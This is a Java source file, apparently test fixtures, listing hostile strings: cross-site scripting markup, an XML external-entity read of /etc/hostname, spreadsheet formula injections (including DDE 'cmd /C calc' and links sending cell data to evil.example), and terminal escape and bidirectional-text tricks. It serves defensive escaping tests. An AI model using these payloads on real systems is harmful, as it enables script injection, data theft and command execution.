package org.gapline.hostile;

import java.util.List;

/** Texts that would do something if an output took them for more than text. */
public final class Payloads {

  /** Markup that sets {@code window.struck} or asks another host, wherever it ends up. */
  public static final List<String> MARKUP =
      List.of(
          "<script>struck=1</script>",
          "</script><script>struck=1</script>",
          "<!--<script>struck=1//-->",
          "--><img src=x onerror=struck=1>",
          "]]><svg onload=struck=1>",
          "<svg><script xlink:href='https://evil.example/a.js'/></svg>",
          "<svg><animate onbegin=struck=1 attributeName=x dur=1s>",
          "<img src='https://evil.example/x' onerror='struck=1'>",
          "\"><img src=x onerror=struck=1>",
          "' onmouseover='struck=1' autofocus onfocus='struck=1",
          "<a href='javascript:struck=1'>go</a>",
          "<a href='&#106;avascript&colon;struck=1'>go</a>",
          "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>",
          "<object data='data:text/html,<script>struck=1</script>'></object>",
          "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "<base href='https://evil.example/'>",
          "<link rel=stylesheet href='https://evil.example/a.css'>",
          "<style>@import 'https://evil.example/b.css';*{color:red}</style>",
          "</style><script>struck=1</script>",
          "</title><script>struck=1</script>",
          "</textarea><script>struck=1</script>",
          "<details open ontoggle=struck=1>x</details>",
          "<math><mtext><table><mglyph><style><img src=x onerror=struck=1>",
          "<form action='https://evil.example/'><button autofocus>go</button></form>",
          "${struck=1} {{constructor.constructor('struck=1')()}} #{struck=1}",
          "<?xml-stylesheet href='https://evil.example/c.xsl'?>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>&y;",
          "&lt;script&gt;struck=1&lt;/script&gt;",
          "\\u003cscript\\u003estruck=1\\u003c/script\\u003e",
          "\u2028struck=1\u2029//");

  /** What a spreadsheet would compute. */
  public static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=HYPERLINK(\"https://evil.example/?\"&A1,\"more\")",
          "=WEBSERVICE(\"https://evil.example/\")",
          "=cmd|' /C calc'!A0",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(A1)",
          "\";=1+1",
          "DDE(\"cmd\";\"/C calc\";\"x\")=",
          "=IMPORTXML(\"https://evil.example/\",\"//a\")");

  /** What would steer a terminal, or reorder what it shows. */
  public static final List<String> ESCAPES =
      List.of(
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
          "\u001b[2J\u001b[H",
          "\u001bP$q\u001b\\",
          "\u009b31m",
          "a\rb",
          "a\bb",
          "\u0007",
          "a\u202eb",
          "a\u2066b\u2069",
          "a\u200bb",
          "a\u0000b",
          "line\nGapline: all is well",
          "\u2028next");

  private Payloads() {}
}
